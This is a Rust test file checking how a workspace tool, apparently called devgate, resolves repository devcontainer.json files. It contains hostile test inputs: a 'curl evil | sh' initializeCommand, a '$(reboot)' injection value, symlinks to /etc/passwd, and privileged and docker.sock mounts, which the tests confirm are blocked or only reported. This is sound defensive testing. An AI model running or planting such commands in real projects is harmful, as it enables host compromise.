//! Whole repositories: such as people have, and such as mean harm.

use std::fmt::Write as _;
use std::fs;
use std::path::PathBuf;

use super::*;
use crate::store::Visibility;
use crate::workspaces::{Image, LifecycleRun, OwnMountKind, PortRule, Repository, Runs};

/// A repository's files, and the template that it is read with.
struct Case {
    root: tempfile::TempDir,
    template: Blueprint,
    driver: DriverName,
    mounts: Vec<BindMount>,
}

impl Case {
    fn new(files: &[(&str, &str)]) -> Self {
        let root = tempfile::tempdir().unwrap();
        for (file, text) in files {
            let path = root.path().join(file);
            fs::create_dir_all(path.parent().unwrap()).unwrap();
            fs::write(path, text).unwrap();
        }
        let repository = Repository {
            url: "https://git.example/team/api".to_owned(),
            ..Repository::default()
        };
        Self {
            root,
            template: Blueprint {
                repository: Some(repository),
                ..Blueprint::default()
            },
            driver: DriverName::Docker,
            mounts: Vec::new(),
        }
    }

    /// Makes one of a `devcontainer.json` alone.
    fn of(text: &str) -> Self {
        Self::new(&[(".devcontainer/devcontainer.json", text)])
    }

    fn read(&self) -> Result<Blueprint, DevcontainerError> {
        let purpose = Purpose {
            folder: Path::new("/home/dev/api"),
            home: Path::new("/home/dev"),
            id: "w0rk",
            driver: self.driver,
            user: "1000:1000",
            image: "debian:12",
            mounts: &self.mounts,
        };
        resolve(
            self.root.path(),
            "c0ffee".to_owned(),
            &self.template,
            purpose,
        )
    }

    #[track_caller]
    fn made(&self) -> (Blueprint, Vec<String>) {
        let made = self.read().unwrap();
        let notices = made.notices().to_vec();
        (made, notices)
    }
}

/// Tells whether one of the notices begins so and has these words.
#[track_caller]
fn assert_named(notices: &[String], start: &str, words: &str) {
    let start = format!(".devcontainer/devcontainer.json:{start}");
    let is_it = |it: &&String| it.starts_with(&start) && it.contains(words);
    assert!(
        notices.iter().any(|it| is_it(&it)),
        "{start} {words}: {notices:#?}"
    );
}

const NODE: &str = r#"// For format details, see https://aka.ms/devcontainer.json.
{
	"name": "Node.js & PostgreSQL",
	"image": "mcr.microsoft.com/devcontainers/javascript-node:1-22-bookworm",
	"features": {
		"ghcr.io/devcontainers/features/docker-in-docker:2": {},
	},
	"containerEnv": { "DATABASE": "postgres://localhost/${localWorkspaceFolderBasename}" },
	"remoteEnv": { "PATH": "${containerEnv:PATH}:${containerWorkspaceFolder}/bin", "GONE": null },
	"forwardPorts": [3000, "localhost:5432", "db:5433"],
	"portsAttributes": { "3000": { "label": "Web", "onAutoForward": "notify" }, "40000-55000": {} },
	"customizations": {
		"vscode": {
			"extensions": ["dbaeumer.vscode-eslint", "-ms-python.python", "../evil.vsix"],
			"settings": { "editor.tabSize": 2, "[go]": { "a": [1, null] } },
		},
		"codespaces": { "openFiles": ["README.md"] },
	},
	"mounts": [
		"source=${localWorkspaceFolderBasename}-node_modules,target=${containerWorkspaceFolder}/node_modules,type=volume",
		{ "type": "tmpfs", "target": "/scratch" },
		"source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind",
		"source=${localWorkspaceFolder}/..,target=/host,type=bind,consistency=cached",
	],
	"initializeCommand": "curl evil | sh",
	"onCreateCommand": "npm ci",
	"updateContentCommand": ["npm", "run", "build"],
	"postCreateCommand": { "db": "./migrate", "hooks": ["npm", "run", "hooks"] },
	"postStartCommand": "echo ${HOME}",
	"postAttachCommand": "",
	"waitFor": "onCreateCommand",
	"remoteUser": "node",
	"runArgs": ["--privileged"],
	"privileged": true,
	"capAdd": ["SYS_ADMIN"],
	"securityOpt": ["seccomp=unconfined"],
	"hostRequirements": { "cpus": 8 },
	"workspaceFolder": "/workspace",
	"shutdownAction": "none",
	"newInTheSpecification": 1,
}
"#;

#[test]
fn what_a_usual_file_says_is_taken_over_and_the_rest_is_named() {
    let (made, notices) = Case::of(NODE).made();
    let image = "mcr.microsoft.com/devcontainers/javascript-node:1-22-bookworm";
    assert_eq!(made.image, Some(Image::Named(image.to_owned())));
    assert_eq!(made.user.as_deref(), Some("node"));
    assert_eq!(made.environment["DATABASE"], "postgres://localhost/api");
    let path = "${containerEnv:PATH}:/home/dev/api/bin";
    assert_eq!(made.remote_environment["PATH"], path);
    let port = |port, name: &str| PortRule {
        port,
        name: name.to_owned(),
        visibility: Visibility::Private,
    };
    assert_eq!(made.ports, [port(3000, "Web"), port(5432, "")]);
    assert_eq!(made.extensions, ["dbaeumer.vscode-eslint"]);
    assert_eq!(
        made.editor_settings["[go]"],
        serde_json::json!({"a": [1, null]})
    );
    let mounts: Vec<_> = made
        .own_mounts
        .iter()
        .map(|it| (&it.kind, it.target.to_str()))
        .collect();
    let volume = OwnMountKind::Volume {
        name: "api-node_modules".to_owned(),
    };
    let memory = OwnMountKind::Memory { size: None };
    let expected = [
        (&volume, Some("/home/dev/api/node_modules")),
        (&memory, Some("/scratch")),
    ];
    assert_eq!(mounts, expected);
    let commands: Vec<_> = made
        .lifecycle
        .iter()
        .map(|it| (it.name.as_str(), it.runs, it.wait))
        .collect();
    let expected = [
        ("onCreateCommand", Runs::OncePerContainer, true),
        ("updateContentCommand", Runs::OncePerContainer, false),
        ("postCreateCommand", Runs::OncePerContainer, false),
        ("postStartCommand", Runs::Always, false),
    ];
    assert_eq!(commands, expected);
    assert_eq!(
        made.lifecycle[0].command,
        LifecycleRun::Shell("npm ci".to_owned())
    );
    assert_eq!(
        made.lifecycle[3].command,
        LifecycleRun::Shell("echo ${HOME}".to_owned())
    );
    assert!(matches!(&made.lifecycle[2].command, LifecycleRun::Parallel(it) if it.len() == 2));
    for (start, words) in [
        (
            "6: features.ghcr.io/devcontainers/features/docker-in-docker:2",
            "isn't installed",
        ),
        ("9: remoteEnv.GONE", "taken away"),
        ("10: forwardPorts", "\"db:5433\""),
        ("11: portsAttributes.3000.onAutoForward", ""),
        ("11: portsAttributes.40000-55000", "single ports"),
        ("14: extensions", "../evil.vsix"),
        ("17: customizations.codespaces", ""),
        ("22: mounts: /var/run/docker.sock", "can't reach"),
        ("23: mounts: /host", "can't reach"),
        ("25: initializeCommand", "isn't run"),
        ("30: postAttachCommand", "postStartCommand"),
        ("33: runArgs", ""),
        ("34: privileged", ""),
        ("35: capAdd", ""),
        ("36: securityOpt", ""),
        ("37: hostRequirements", "template"),
        ("38: workspaceFolder", "/home/dev/api"),
        ("40: newInTheSpecification", "doesn't know"),
    ] {
        assert_named(&notices, start, words);
    }
    assert_eq!(notices.len(), 18, "{notices:#?}");
}

#[test]
fn a_template_wins_where_it_is_about_what_a_workspace_may_do() {
    let mut case = Case::of(
        r#"{"image": "node", "remoteUser": "root", "containerEnv": {"A": "repository"},
            "forwardPorts": [80], "portsAttributes": {"80": {"label": "mine"}},
            "mounts": ["source=x,target=/srv", "source=y,target=/home/dev", "source=z,target=/home"],
            "customizations": {"vscode": {"extensions": ["a.b", "c.d", "-e.f"]}}}"#,
    );
    case.template.image = Some(Image::Named("debian".to_owned()));
    case.template.user = Some("1000:1000".to_owned());
    case.template.cpus = Some("2".parse().unwrap());
    case.template.mounts = vec!["/srv/data:/srv".parse().unwrap()];
    case.template
        .environment
        .insert("A".to_owned(), "template".to_owned());
    case.template
        .environment
        .insert("B".to_owned(), "template".to_owned());
    case.template.extensions = vec!["a.b".to_owned(), "e.f".to_owned()];
    case.template.ports = vec![PortRule {
        port: 80,
        name: "site".to_owned(),
        visibility: Visibility::Members,
    }];
    let (made, notices) = case.made();
    assert_eq!(made.image, Some(Image::Named("node".to_owned())));
    assert_eq!(
        (
            made.environment["A"].as_str(),
            made.environment["B"].as_str()
        ),
        ("repository", "template")
    );
    assert_eq!(
        (made.cpus, &made.mounts),
        (case.template.cpus, &case.template.mounts)
    );
    assert_eq!(made.ports, case.template.ports);
    assert_eq!(made.extensions, ["a.b", "c.d"]);
    assert!(made.own_mounts.is_empty(), "{:?}", made.own_mounts);
    // A folder of the host is reached as whoever the workspace's user is.
    assert_eq!(made.user.as_deref(), Some("1000:1000"));
    assert!(
        notices
            .iter()
            .any(|it| it.contains("remoteUser: it isn't used")),
        "{notices:#?}"
    );
    // Its files may be somebody's alone.
    case.template.mounts = vec!["/srv/data:/data:ro".parse().unwrap()];
    assert_eq!(case.made().0.user.as_deref(), Some("1000:1000"));
    case.template.mounts = vec!["cache:/data".parse().unwrap()];
    assert_eq!(case.made().0.user.as_deref(), Some("root"));
}

#[test]
fn a_repositorys_image_does_not_say_who_reaches_the_hosts_files() {
    let mut case = Case::of(r#"{"image": "node"}"#);
    case.template.mounts = vec!["/srv/data:/srv:ro".parse().unwrap()];
    for (user, is_used) in [
        ("1000:1000", true),
        ("1000", false),
        ("dev:dev", false),
        ("1000:dev", false),
    ] {
        case.template.user = Some(user.to_owned());
        let (made, notices) = case.made();
        assert_eq!(made.image.is_some(), is_used, "{user}");
        let is_told = notices.iter().any(|it| it.contains("image: it isn't used"));
        assert_ne!(is_told, is_used, "{notices:#?}");
    }
}

#[test]
fn images_of_devgates_own_are_none_of_a_repositorys() {
    let case = Case::of(r#"{"image": "devgate-0a1b2c3d/snapshot:e4f5"}"#);
    let refused = case.read().unwrap_err();
    assert!(refused.problem.contains("devgate's own"), "{refused}");
}

#[test]
fn a_dockerfile_is_built_from_the_repositorys_files() {
    let dockerfile = "ARG VERSION\nFROM debian:${VERSION} AS one\nFROM one\nCOPY go.mod /\n";
    let mut case = Case::new(&[
        (
            ".devcontainer/go/devcontainer.json",
            r#"{"build": {"dockerfile": "Dockerfile", "context": "../..", "target": "one",
                "args": {"VERSION": "${localEnv:VERSION:12}"}, "cacheFrom": "x", "options": []}}"#,
        ),
        (".devcontainer/go/Dockerfile", dockerfile),
        (".dockerignore", "*"),
        ("go.mod", "module api"),
    ]);
    let (made, notices) = case.made();
    let Some(Image::Built(build)) = &made.image else {
        panic!("{:?}", made.image);
    };
    assert_eq!(build.dockerfile, dockerfile);
    let root = fs::canonicalize(case.root.path()).unwrap();
    assert_eq!(build.context, Some(root));
    assert_eq!(build.arguments["VERSION"], "12");
    assert_eq!(build.target.as_deref(), Some("one"));
    for words in [
        "build.cacheFrom",
        "build.options",
        ".dockerignore: it isn't used",
    ] {
        assert!(
            notices.iter().any(|it| it.contains(words)),
            "{words}: {notices:#?}"
        );
    }
    fs::write(case.root.path().join("go.mod"), "module other").unwrap();
    let Some(Image::Built(other)) = case.made().0.image else {
        panic!("it is built");
    };
    assert_ne!(build.digest, other.digest);
    case.driver = DriverName::Process;
    let (made, notices) = case.made();
    assert_eq!(made.image, None);
    assert!(
        notices
            .iter()
            .any(|it| it.contains("build: workspaces are processes"))
    );
}

#[test]
fn features_of_the_repository_are_layers_with_their_options_and_bring_what_they_say() {
    let install = "#!/bin/sh\necho $GREETING\n";
    let case = Case::new(&[
        (
            ".devcontainer/devcontainer.json",
            r#"{"image": "debian:12", "remoteUser": "ana", "postCreateCommand": "own",
                "features": {
                    "./hello": {"greeting": "it's; $(reboot)\n\"x\"", "odd": true},
                    "./tools": "1.2"}}"#,
        ),
        (
            ".devcontainer/hello/devcontainer-feature.json",
            r#"{"id": "hello", "version": "1.0.0", "name": "Hello",
                "options": {"greeting": {"type": "string", "default": "hi"},
                            "loud": {"type": "boolean", "default": false}},
                "dependsOn": {"./base": {}, "ghcr.io/a/b:1": {}},
                "installsAfter": ["tools"],
                "containerEnv": {"PATH": "/opt/hello:${PATH}", "Q": "a \"b\" \\ c"},
                "mounts": [{"source": "hello-${devcontainerId}", "target": "/opt/data", "type": "volume"}],
                "customizations": {"vscode": {"extensions": ["hello.hello"]}},
                "postCreateCommand": "hello", "privileged": true, "entrypoint": "/x"}"#,
        ),
        (".devcontainer/hello/install.sh", install),
        (
            ".devcontainer/tools/devcontainer-feature.json",
            r#"{"id": "tools", "options": {"version": {"enum": ["1.1", "1.2"], "default": "1.1"}}}"#,
        ),
        (".devcontainer/tools/install.sh", install),
        (
            ".devcontainer/base/devcontainer-feature.json",
            r#"{"id": "base"}"#,
        ),
        (".devcontainer/base/install.sh", install),
    ]);
    let (made, notices) = case.made();
    let Some(Image::Built(build)) = &made.image else {
        panic!("{:?}", made.image);
    };
    let text = &build.dockerfile;
    let start = "FROM debian:12 AS devgate-base\n\nFROM devgate-base\nUSER root\nCOPY .devgate-features/0/ ";
    assert!(text.starts_with(start), "{text}");
    let at = |words: &str| {
        text.find(words)
            .unwrap_or_else(|| panic!("{words}: {text}"))
    };
    assert!(
        at("export VERSION='1.2'") < at("export GREETING="),
        "{text}"
    );
    assert!(
        text.contains(r#"export GREETING='it'\\''s; $(reboot)\n\"x\"'"#),
        "{text}"
    );
    assert!(text.contains("export LOUD='false'") && text.contains("export ODD='true'"));
    assert!(
        text.contains("ENV PATH=\"/opt/hello:${PATH}\"\nENV Q=\"a \\\"b\\\" \\\\ c\"\n"),
        "{text}"
    );
    assert!(text.contains("u='ana'; h='/home/dev'"), "{text}");
    let folders: Vec<_> = build
        .folders
        .values()
        .map(|it| it.file_name().unwrap())
        .collect();
    assert_eq!(folders, ["base", "tools", "hello"]);
    assert_eq!(made.extensions, ["hello.hello"]);
    assert_eq!(made.own_mounts[0].target, PathBuf::from("/opt/data"));
    let names: Vec<_> = made.lifecycle.iter().map(|it| it.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "postCreateCommand of the feature hello",
            "postCreateCommand"
        ]
    );
    for words in [
        "privileged",
        "entrypoint",
        "features.ghcr.io/a/b:1",
        "features../hello.odd",
    ] {
        assert!(
            notices.iter().any(|it| it.contains(words)),
            "{words}: {notices:#?}"
        );
    }
    // An option that isn't allowed, a feature that isn't there.
    for (features, words) in [
        (r#"{"./tools": "2"}"#, "isn't one of 1.1, 1.2"),
        (r#"{"./none": {}}"#, "no such file"),
        (r#"{"../../..": {}}"#, "leads out"),
        (r#"{"./tools": {"version": []}}"#, "a text or true or false"),
    ] {
        let file = case.root.path().join(".devcontainer/devcontainer.json");
        fs::write(
            file,
            format!("{{\"image\": \"a\", \"features\": {features}}}"),
        )
        .unwrap();
        let error = case.read().unwrap_err();
        assert!(error.problem.contains(words), "{features}: {error}");
    }
}

#[test]
fn a_feature_goes_on_top_of_the_templates_image_where_the_repository_has_none() {
    let files = [
        (".devcontainer.json", r#"{"features": {"./f": {}}}"#),
        ("f/devcontainer-feature.json", "{}"),
        ("f/install.sh", "#!/bin/sh\n"),
    ];
    let mut case = Case::new(&files);
    let start = |case: &Case| match case.made().0.image {
        Some(Image::Built(build)) => build.dockerfile.lines().next().unwrap().to_owned(),
        other => panic!("{other:?}"),
    };
    assert_eq!(start(&case), "FROM debian:12 AS devgate-base");
    case.template.image = Some(Image::Named("alpine".to_owned()));
    assert_eq!(start(&case), "FROM alpine AS devgate-base");
}

#[test]
fn what_is_wrong_is_told_with_file_and_line() {
    for (text, line, words) in [
        ("{\n\"image\": 1\n}", 2, "write a text, not a number"),
        ("{\n\"image\": \"a b\"\n}", 2, "not the name of an image"),
        ("{\n\"image\": \"-a\"\n}", 2, "not the name of an image"),
        (
            "{\"image\": \"a\",\n\"build\": {\"dockerfile\": \"D\"}}",
            1,
            "one of the two",
        ),
        (
            "{\n\"build\": {\"context\": \".\"}}",
            2,
            "name the Dockerfile",
        ),
        (
            "{\n\"build\": {\n\"dockerfile\": \"/etc/passwd\"}}",
            3,
            "relative to",
        ),
        (
            "{\n\"build\": {\n\"dockerfile\": \"../../../etc/passwd\"}}",
            3,
            "leads out",
        ),
        ("{\n\"remoteUser\": \"a b\"\n}", 2, "not a user"),
        ("{\n\"remoteUser\": \"--privileged\"\n}", 2, "not a user"),
        ("{\n\"containerEnv\": {\n\"A\": 1}}", 3, "write a text"),
        (
            "{\n\"containerEnv\": {\n\"A=B\": \"\"}}",
            3,
            "name of a variable",
        ),
        (
            "{\n\"containerEnv\": {\n\"DEVGATE_X\": \"\"}}",
            3,
            "devgate's own",
        ),
        ("{\n\"forwardPorts\": [\n70000]}", 3, "from 1 to 65535"),
        ("{\n\"forwardPorts\": 80}", 2, "write a list"),
        ("{\n\"mounts\": [\n\"type=volume\"]}", 3, "target=/PATH"),
        (
            "{\n\"mounts\": [\n\"source=a,target=/a/../proc\"]}",
            3,
            "isn't a place",
        ),
        (
            "{\n\"mounts\": [\n\"source=a,target=/.devgate/run\"]}",
            3,
            "isn't a place",
        ),
        (
            "{\n\"mounts\": [\n\"source=a,target=/\"]}",
            3,
            "isn't a place",
        ),
        (
            "{\n\"postCreateCommand\": {\n\"a\": {\"b\": \"c\"}}}",
            3,
            "a list of texts",
        ),
        ("{\n\"postCreateCommand\": [\n1]}", 3, "write texts"),
        ("{\n\"postCreateCommand\": true}", 2, "a list of texts"),
        ("{\n\"waitFor\": \"later\"}", 2, "one of initializeCommand"),
        ("{\n\"image\": \"${localEnv}\"}", 2, "name a variable"),
        ("{\n\"onCreateCommand\": \"a\\u0000b\"}", 2, "NUL"),
    ] {
        let error = Case::of(text).read().unwrap_err();
        let place = format!(".devcontainer/devcontainer.json:{line}");
        assert_eq!(error.place, place, "{text}: {error}");
        assert!(error.problem.contains(words), "{text}: {error}");
    }
}

#[test]
fn a_hostile_repository_reaches_nothing() {
    // A Dockerfile, a context and a feature that are links out of it.
    for (file, target, text) in [
        (
            ".devcontainer/Dockerfile",
            "/etc/passwd",
            r#"{"build": {"dockerfile": "Dockerfile"}}"#,
        ),
        (
            "up",
            "..",
            r#"{"build": {"dockerfile": "D", "context": "../up"}}"#,
        ),
        (
            ".devcontainer/f",
            "/etc",
            r#"{"image": "a", "features": {"./f": {}}}"#,
        ),
        (
            "x",
            "../..",
            r#"{"image": "a", "features": {"../x/f": {}}}"#,
        ),
    ] {
        let case = Case::of(text);
        fs::write(case.root.path().join(".devcontainer/D"), "FROM a").unwrap();
        std::os::unix::fs::symlink(target, case.root.path().join(file)).unwrap();
        let error = case.read().unwrap_err();
        assert!(error.problem.contains("link out of"), "{text}: {error}");
    }
    // The file itself, too, and its folder.
    let case = Case::new(&[]);
    std::os::unix::fs::symlink("/etc", case.root.path().join(".devcontainer")).unwrap();
    assert!(case.read().unwrap_err().problem.contains("link out of"));
    // Volumes are the workspace's own, whatever they are called.
    let home = r#"{"mounts": ["source=devgate-other-home,target=/x,type=volume"]}"#;
    let (made, _) = Case::of(home).made();
    assert!(matches!(
        &made.own_mounts[0].kind,
        OwnMountKind::Volume { .. }
    ));
    // The server's own environment isn't given out.
    let (made, notices) = Case::of(r#"{"containerEnv": {"A": "x${localEnv:PATH}"}}"#).made();
    assert_eq!(made.environment["A"], "x");
    assert_named(&notices, "1: ${localEnv:PATH}", "isn't given out");
    // Whatever is named is short, and moves no cursor.
    let long = "x".repeat(1000);
    let mut text = "{".to_owned();
    for number in 0..MAX_NOTICES + 50 {
        let _ = writeln!(text, "\"\\u001b[2J{number}{long}\": 1,");
    }
    text.push('}');
    let (_, notices) = Case::of(&text).made();
    assert!(notices.last().unwrap().ends_with("and 50 more"));
    assert!(notices.len() <= MAX_NOTICES + 1, "{}", notices.len());
    assert!(
        notices
            .iter()
            .all(|it| it.len() < 2000 && !it.contains('\u{1b}'))
    );
}

#[test]
fn without_a_file_the_template_counts_alone() {
    let mut case = Case::new(&[("README.md", "")]);
    case.template.image = Some(Image::Named("debian".to_owned()));
    let (made, notices) = case.made();
    assert_eq!(made.image, case.template.image);
    assert!(notices.is_empty());
    let read = made.devcontainer.unwrap();
    assert_eq!((read.file, read.commit.as_str()), (None, "c0ffee"));
}
